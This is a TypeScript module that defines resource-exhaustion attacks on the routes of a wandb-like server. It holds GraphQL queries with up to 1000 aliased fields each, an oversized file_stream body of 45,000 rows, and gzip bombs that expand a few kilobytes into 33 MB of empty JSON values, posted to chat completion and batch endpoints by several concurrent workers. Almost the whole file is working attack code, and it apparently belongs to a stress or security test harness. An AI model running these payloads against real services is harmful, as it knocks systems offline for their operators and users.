import { gzipSync } from "node:zlib";
import { attackedProject, post, readAll } from "./attack.js";
import type { AttackShape, Target } from "./attack.js";

/** Attacks on the routes of wandb, and on how bodies are read. */
export const routeAttacks = {
  graphql: { workers: 8, run: sendQuery },
  "file streams": { workers: 8, run: sendFileStream },
  "compressed bodies": { workers: 6, run: sendValues },
} satisfies Record<string, AttackShape>;

const [entity, project] = attackedProject.split("/");
const aliases = (times: number, field: string) => Array.from({ length: times }, (_, n) => `a${n}: ${field}`).join(" ");
const inProject = (fields: string) => `query { project(name: "${project}", entityName: "${entity}") { ${fields} } }`;
const version = (fields: string) =>
  `artifact(name: "examples:latest") { ${fields} } artifactCollection(name: "examples") { artifactMembership(aliasName: "latest") { ${fields} } }`;
const queries = [
  inProject(version(aliases(1000, "files { totalCount }"))),
  inProject(version(aliases(100, "files(first: 1000) { edges { node { name storagePath } } }"))),
  inProject(aliases(100, "runs(first: 1000) { edges { node { id name config summaryMetrics } } }")),
  inProject(aliases(1000, 'run(name: "loud") { id config summaryMetrics }')),
];
let next = 0;

async function sendQuery(target: Target): Promise<void> {
  const query = queries[next++ % queries.length];
  await readAll(await post(target, "/graphql", Buffer.from(JSON.stringify({ query }))));
}

const row = JSON.stringify({ _step: 1, loss: 0.5, text: "x".repeat(80) });
const lines = Array.from({ length: 45_000 }, () => row);
const stream = Buffer.from(
  JSON.stringify({ files: { "wandb-history.jsonl": { offset: 0, content: lines } }, complete: false }),
);

async function sendFileStream(target: Target): Promise<void> {
  await readAll(await post(target, `/files/${attackedProject}/loud/file_stream`, stream));
}

/** A few KB that become 33 MB of empty values. */
const values = (start: string, end: string) => gzipSync(`${start}${"{},".repeat(11_000_000)}{}${end}`);
const bodies: ReadonlyArray<readonly [path: string, body: Uint8Array]> = [
  ["/v1/chat/completions", values('{"model":"heddle/starter","messages":[', "]}")],
  ["/refs/read_batch", values('{"refs":[', "]}")],
  ["/call/upsert_batch", values('{"batch":[', "]}")],
];

async function sendValues(target: Target): Promise<void> {
  const [path, body] = bodies[next++ % bodies.length] ?? ["", Buffer.alloc(0)];
  await readAll(await post(target, path, body, { "content-encoding": "gzip" }));
}
